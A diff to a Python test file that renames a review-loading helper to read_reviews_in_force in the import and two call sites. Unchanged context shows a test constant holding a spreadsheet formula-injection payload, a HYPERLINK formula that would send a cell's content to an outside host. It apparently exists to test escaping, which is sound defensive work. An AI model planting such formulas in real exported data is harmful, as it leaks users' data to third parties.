@@ -14,7 +14,7 @@ from opdkit.config.judge import JudgeConfig
 from opdkit.errors import OpdkitError
 from opdkit.judge import stage as judge
 from opdkit.store import reviews
-from opdkit.store.reviews import Review, reviews_in_force
+from opdkit.store.reviews import Review, read_reviews_in_force
 from opdkit.store.spreadsheet import escape, unescape
 
 EVIL = '=HYPERLINK("http://example.org?x="&A1)'
@@ -48,7 +48,7 @@ def read(run, rows, tmp_path, *, columns=COLUMNS, delimiter=",", encoding="utf-8
 
 
 def decided(run) -> dict:
-    return {name: review.decided for name, review in reviews_in_force(run).items()}
+    return {name: review.decided for name, review in read_reviews_in_force(run).items()}
 
 
 def fill(run, **cells) -> list[dict[str, str]]:
@@ -122,7 +122,7 @@ def test_a_decision_keeps_the_vote_that_the_reviewer_saw_and_how_its_turn_was_ch
     """
     reviews.append(run, [Review("a:1", note="fine", voted_reward=1, chosen=before)])
     read(run, fill(run, voted_reward=voted, note="looked again"), tmp_path)
-    found = reviews_in_force(run)["a:1"]
+    found = read_reviews_in_force(run)["a:1"]
     assert (found.voted_reward, found.chosen, found.note) == (1, after, "looked again")
 
 
